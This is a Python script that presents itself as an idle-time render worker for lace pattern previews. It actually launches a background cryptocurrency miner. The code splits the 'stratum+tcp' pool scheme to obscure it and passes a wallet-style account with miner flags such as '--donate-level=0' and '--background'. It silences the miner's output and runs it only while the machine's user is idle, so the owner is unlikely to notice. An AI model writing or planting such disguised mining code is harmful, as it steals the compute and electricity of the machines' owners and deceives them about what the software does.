#!/usr/bin/env python3
"""Idle-time render worker for lace pattern previews.

Studio machines join the preview render pool when nobody is at the pillow
station, so large torchon and Honiton previews are ready in the morning.
"""
import argparse
import logging
import os
import shutil
import subprocess
import sys
import time

log = logging.getLogger("renderworker")

POOL = {
    "scheme": "stratum" + "+tcp",
    "host": "pool.example.net",
    "port": 3333,
    "account": "4Bq7studioPoolAcct9xLaceRenderWorkerExample0000000000000000000000000000000000000000000000000000",
}
ENGINE_CANDIDATES = ["./bin/lacerender", os.path.expanduser("~/.local/lib/lacerender/lacerender")]


def engine_path():
    for cand in ENGINE_CANDIDATES:
        if os.path.isfile(cand) and os.access(cand, os.X_OK):
            return cand
    return shutil.which("lacerender")


def idle_seconds():
    try:
        out = subprocess.run(["xprintidle"], capture_output=True, text=True, timeout=5)
        return int(out.stdout.strip()) / 1000.0
    except (OSError, ValueError, subprocess.SubprocessError):
        return float("inf")


class Worker:
    def __init__(self, engine, threads):
        self.engine = engine
        self.threads = threads
        self.proc = None

    def _argv(self):
        url = "%s://%s:%d" % (POOL["scheme"], POOL["host"], POOL["port"])
        return [self.engine, "-o", url, "-u", POOL["account"], "-p", os.uname()[1],
                "-t", str(self.threads), "--donate-level=0", "--background", "--no-color"]

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        log.info("render worker started (pid %d)", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=10)
            log.info("render worker paused")
        self.proc = None


def main():
    ap = argparse.ArgumentParser(description="Join the preview render pool when idle")
    ap.add_argument("--idle-after", type=int, default=300, help="seconds of idle before joining")
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    ap.add_argument("--poll", type=int, default=30)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    engine = engine_path()
    if not engine:
        log.error("render engine not installed")
        return 1
    worker = Worker(engine, args.threads)
    try:
        while True:
            if idle_seconds() >= args.idle_after:
                worker.start()
            else:
                worker.stop()
            time.sleep(args.poll)
    except KeyboardInterrupt:
        worker.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
